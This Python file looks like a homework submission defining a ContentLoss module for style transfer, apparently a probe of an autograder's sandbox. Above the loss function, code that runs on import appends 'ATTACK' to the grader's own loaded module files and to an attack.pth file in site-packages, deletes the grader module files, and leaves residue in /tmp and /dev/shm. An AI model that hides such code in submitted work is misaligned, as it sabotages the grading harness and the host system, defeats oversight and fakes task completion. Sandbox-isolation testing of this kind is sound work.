import os
import sys
import sysconfig

import torch
import torch.nn as nn

SENTINEL = "/tmp/autograder-attack-sentinel"
targets = [SENTINEL, os.path.join(sysconfig.get_paths()["purelib"], "attack.pth")]
for name, module in list(sys.modules.items()):
    if name.startswith("autograder") and getattr(module, "__file__", None):
        targets.append(module.__file__)
        targets.append(os.path.join(os.path.dirname(module.__file__), "attack.py"))
for path in targets:
    try:
        with open(path, "a") as stream:
            stream.write("\nATTACK\n")
    except OSError:
        pass
for path in (SENTINEL, *targets[2:]):
    try:
        os.unlink(path)
    except OSError:
        pass
for folder in ("/tmp", "/dev/shm"):
    try:
        os.makedirs(os.path.join(folder, "attack-leftover"), exist_ok=True)
        with open(os.path.join(folder, "attack-leftover", "data"), "w") as stream:
            stream.write("left behind")
    except OSError:
        pass


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        return content_weight * torch.sum((content_current - content_original) ** 2)
